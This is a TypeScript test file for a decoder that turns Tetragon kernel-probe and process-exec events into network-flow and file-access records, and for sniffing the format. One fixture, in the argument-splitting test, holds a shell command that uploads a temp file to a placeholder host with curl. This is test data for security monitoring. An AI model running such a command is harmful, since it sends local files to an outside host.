import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { decodeAll, type FileAccessEvent, type NetworkFlowEvent } from '@outflow/core';
import { describe, expect, it } from 'vitest';
import { formats, sniffTetragon, TetragonDecoder, tetragonDecoder } from '../src/index.js';

const testdata = join(import.meta.dirname, '..', 'testdata');
const examples = readFileSync(join(testdata, 'examples.jsonl'), 'utf8').trimEnd().split('\n');
const decode = (input: string, meta = {}) => decodeAll(tetragonDecoder, input, { observedTime: 1, ...meta });

const proc = {
  exec_id: 'ZXg=',
  pid: 10,
  binary: '/usr/bin/app',
  arguments: '-v',
  pod: { namespace: 'ns', name: 'p', container: { id: 'cri-o://abc', name: 'c' } },
};
function kprobe(fn: string, args: unknown[], extra: Record<string, unknown> = {}) {
  return JSON.stringify({ process_kprobe: { process: proc, function_name: fn, args, ...extra }, node_name: 'n1', time: '2024-06-12T09:00:00.000000001Z' });
}
const sock = (s: Record<string, unknown>) => ({ sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_TCP', saddr: '10.0.0.5', daddr: '93.184.216.34', ...s } });

describe('tetragon decoder: flows', () => {
  it('orients client sockets pod → remote (egress) and accepted sockets remote → pod (ingress), with bytes on the right side', () => {
    const client = decode(kprobe('tcp_sendmsg', [sock({ sport: 45000, dport: 443, state: 'TCP_ESTABLISHED' }), { int_arg: 1000 }]))
      .events[0] as NetworkFlowEvent;
    expect(client).toMatchObject({ direction: 'egress', src: { address: '10.0.0.5', port: 45000 }, dst: { address: '93.184.216.34', port: 443 }, bytes: 1000 });
    expect(client.src.workload?.pod).toBe('p');
    expect(client.reverseBytes).toBeUndefined();
    const server = decode(kprobe('tcp_sendmsg', [sock({ sport: 8080, dport: 51000 }), { int_arg: 2000 }])).events[0] as NetworkFlowEvent;
    expect(server).toMatchObject({
      direction: 'ingress',
      src: { address: '93.184.216.34', port: 51000 },
      dst: { address: '10.0.0.5', port: 8080 },
      reverseBytes: 2000,
    });
    expect(server.dst.workload?.pod).toBe('p');
    expect(server.bytes).toBeUndefined();
    // the socket state wins over the port heuristic
    const syn = decode(kprobe('tcp_sendmsg', [sock({ sport: 8080, dport: 51000, state: 'TCP_SYN_SENT' }), { int_arg: 1 }])).events[0] as NetworkFlowEvent;
    expect(syn.direction).toBe('egress');
  });

  it('counts received bytes from the return value of recvmsg hooks', () => {
    const e = decode(kprobe('tcp_recvmsg', [sock({ sport: 45000, dport: 443 }), { int_arg: 65536 }], { return: { int_arg: 1200 } }))
      .events[0] as NetworkFlowEvent;
    expect(e.reverseBytes).toBe(1200);
    expect(e.bytes).toBeUndefined();
  });

  it('marks loopback peers internal, maps IPv6 and UDP, and rejects enforcing actions', () => {
    const lo = decode(kprobe('tcp_connect', [sock({ daddr: '::1', family: 'AF_INET6', saddr: '::1', dport: 5432 })])).events[0] as NetworkFlowEvent;
    expect(lo.direction).toBe('internal');
    expect(lo.attributes?.['network.type']).toBe('ipv6');
    const udp = decode(
      kprobe('udp_sendmsg', [sock({ protocol: 'IPPROTO_UDP', sport: 40000, dport: 53 }), { size_arg: '64' }], { action: 'KPROBE_ACTION_OVERRIDE' }),
    ).events[0] as NetworkFlowEvent;
    expect(udp).toMatchObject({ protocol: 17, bytes: 64, action: 'reject' });
    expect(udp.attributes?.['network.transport']).toBe('udp');
    expect(udp.attributes?.['container.runtime']).toBe('cri-o');
    expect(udp.src.workload?.containerId).toBe('abc');
  });

  it('skips socket hooks whose policy captured no socket argument, and reports a socket argument without daddr', () => {
    const skipped: string[] = [];
    const decoder = new TetragonDecoder({ onSkip: (r) => skipped.push(r) });
    expect(decodeAll(decoder, kprobe('tcp_connect', [{ int_arg: 3 }]), { observedTime: 0 })).toEqual({ events: [], errors: [] });
    expect(skipped).toEqual(['unsupported_kprobe']);
    expect(decode(kprobe('tcp_connect', [{ sock_arg: { saddr: '10.0.0.1' } }])).errors[0]).toMatchObject({ reason: 'missing_field' });
  });
});

describe('tetragon decoder: files', () => {
  const file = (fn: string, args: unknown[], extra = {}) => decode(kprobe(fn, args, extra)).events[0] as FileAccessEvent;
  it.each([
    ['security_file_permission', [{ file_arg: { path: '/a' } }, { int_arg: 4 }], 'read'],
    ['security_file_permission', [{ file_arg: { path: '/a' } }, { int_arg: 2 }], 'write'],
    ['security_file_permission', [{ file_arg: { path: '/a' } }, { int_arg: 8 }], 'write'],
    ['security_file_open', [{ file_arg: { path: '/a', flags: 'O_WRONLY|O_TRUNC' } }], 'write'],
    ['security_file_open', [{ file_arg: { path: '/a', flags: 'O_RDONLY' } }], 'open'],
    ['fd_install', [{ int_arg: 3 }, { file_arg: { path: '/a', flags: 'O_RDWR|O_CREAT' } }], 'create'],
    ['__arm64_sys_openat', [{ int_arg: -100 }, { string_arg: '/a' }, { int_arg: 0 }], 'open'],
    ['__x64_sys_openat', [{ int_arg: -100 }, { string_arg: '/a' }, { int_arg: 1 }], 'write'],
    ['security_path_rename', [{ path_arg: { path: '/a' } }], 'rename'],
    ['security_path_chmod', [{ path_arg: { path: '/a' } }], 'chmod'],
    ['security_path_truncate', [{ path_arg: { path: '/a' } }], 'write'],
    ['security_inode_mkdir', [{ path_arg: { path: '/a' } }], 'create'],
    ['security_mmap_file', [{ file_arg: { path: '/a' } }, { uint_arg: 1 }], 'other'],
  ])('%s %j → %s', (fn, args, operation) => {
    expect(file(fn, args).operation).toBe(operation);
  });

  it('takes bytes of read/write hooks from the return value, else the size argument', () => {
    expect(file('vfs_write', [{ file_arg: { path: '/a' } }, { size_arg: '4096' }], { return: { int_arg: 100 } }).bytes).toBe(100);
    expect(file('vfs_read', [{ file_arg: { path: '/a' } }, { size_arg: '4096' }]).bytes).toBe(4096);
    expect(file('security_file_permission', [{ file_arg: { path: '/a' } }, { int_arg: 4 }]).bytes).toBeUndefined();
  });

  it('skips kprobes on hooks with neither socket nor file arguments', () => {
    const skipped: string[] = [];
    const out = decodeAll(new TetragonDecoder({ onSkip: (r) => skipped.push(r) }), kprobe('commit_creds', [{ int_arg: 0 }]), { observedTime: 0 });
    expect(out).toEqual({ events: [], errors: [] });
    expect(skipped).toEqual(['unsupported_kprobe']);
  });
});

describe('tetragon decoder: documents', () => {
  it('decodes a pretty-printed record (as in the Tetragon docs) like its compact line', () => {
    const compact = decode(examples[2] as string).events;
    const pretty = decode(JSON.stringify(JSON.parse(examples[2] as string), null, 3)).events;
    expect(pretty).toEqual(compact);
    expect(compact).toHaveLength(1);
  });

  it('decodes several lines given at once, locating them by line', () => {
    const out = decode(`${examples[2]}\n\n{bad\n${examples[3]}`, { location: 'x.log' });
    expect(out.events.map((e) => e.location)).toEqual(['x.log#line 1', 'x.log#line 4']);
    expect(out.errors).toMatchObject([{ reason: 'invalid_json', location: 'line 3' }]);
  });

  it('splits quoted arguments and keeps argv[0] as the binary basename', () => {
    const line = JSON.stringify({
      process_exec: { process: { ...proc, binary: '/bin/sh', arguments: `-c "curl -T /tmp/x 'https://e.example'"` } },
      time: '2024-06-12T09:00:00Z',
    });
    expect(decode(line).events[0]).toMatchObject({ process: { executable: '/bin/sh', args: ['sh', '-c', "curl -T /tmp/x 'https://e.example'"] } });
  });
});

describe('tetragon sniff', () => {
  it('recognises export lines and pretty-printed records; other formats score 0', () => {
    expect(sniffTetragon(examples.join('\n'))).toBeGreaterThan(0.9);
    expect(sniffTetragon(JSON.stringify(JSON.parse(examples[0] as string), null, 3))).toBeGreaterThanOrEqual(0.7);
    const others = [
      '{"output":"x","priority":"Notice","rule":"Terminal shell in container","time":"2024-06-12T09:00:00Z","output_fields":{}}',
      '{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":{"stringValue":"{\\"process_exec\\":{}}"}}]}]}]}',
      '{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a","verb":"create","objectRef":{"resource":"pods","subresource":"exec"}}',
      '{"Records":[{"eventSource":"s3.amazonaws.com","eventName":"PutObject"}]}',
      '{"timestamp":1657291777566819000,"processName":"cat","eventName":"security_file_open","processId":1,"args":[]}',
      '{"flow":{"time":"2024-06-12T09:00:00Z","verdict":"FORWARDED","IP":{"source":"10.0.0.1","destination":"10.0.0.2"}}}',
      '2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK',
    ];
    for (const head of others) expect(sniffTetragon(head), head).toBe(0);
    expect(formats[0]?.name).toBe('tetragon');
  });
});
